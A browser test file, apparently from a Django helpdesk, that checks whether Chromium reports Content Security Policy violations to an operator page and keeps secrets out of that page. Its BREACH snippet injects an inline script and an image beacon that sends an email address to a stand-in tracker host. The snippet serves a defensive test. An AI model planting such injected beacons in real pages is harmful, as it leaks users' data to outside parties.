"""What a browser reports of a page that breaks the policy is on the operator's page."""

import pytest
from django.core.cache import cache
from django.urls import reverse
from playwright.sync_api import expect

from helpdesk.operations.models import PolicyViolation
from helpdesk.teams.models import User
from tests.browser.programs import chromium
from tests.tls import self_signed, spki_hash, tls_in_front_of
from tests.waiting import wait_until

pytestmark = pytest.mark.browser
# As whoever could write into a page, or a program on the way, might: a script, and a picture that tells an address.
BREACH = """() => {
    const script = document.createElement("script"), image = new Image();
    script.textContent = "window.hasRun = true";
    image.src = "https://tracker.example/ana.png?email=ana@example.com";
    document.body.append(script, image);
}"""


@pytest.fixture
def certificate():
    return self_signed("127.0.0.1")


@pytest.fixture
def secure(server, certificate, tmp_path):
    """The server over https: Chromium reports of no other."""
    with tls_in_front_of(server, certificate, tmp_path) as address:
        yield address


def test_violations_blocked_by_chromium_are_reported_and_shown(playwright, server, secure, certificate, open_page):
    cache.clear()  # whatever other tests reported from this address
    # The engine alone reports nothing, and the whole of itself once a minute.
    args = [f"--ignore-certificate-errors-spki-list={spki_hash(certificate)}", "--short-reporting-delay"]
    with chromium(playwright, args=args) as browser:
        page = browser.new_page()
        page.goto(f"{secure}/accounts/login/?next=/secret-of-an-address/")
        page.evaluate(BREACH)
        assert page.evaluate("window.hasRun") is None
        page.goto("about:blank")  # what is to be reported of a page goes with it at the latest
        wait_until(lambda: PolicyViolation.objects.count() == 2, 75, "nothing was reported")
    operator = open_page(user=User.objects.create_superuser("root@example.com", "x"))
    operator.goto(server + reverse("policy_violations"))
    rows = operator.get_by_role("row")
    of_script, of_image = rows.filter(has_text="script-src-elem"), rows.filter(has_text="img-src")
    expect(of_script).to_contain_text("inline")
    expect(of_script).to_contain_text("/accounts/login/")
    expect(of_image).to_contain_text("https://tracker.example")
    for secret in ("ana.png", "ana@example.com", "secret-of-an-address"):
        expect(operator.locator("body")).not_to_contain_text(secret)
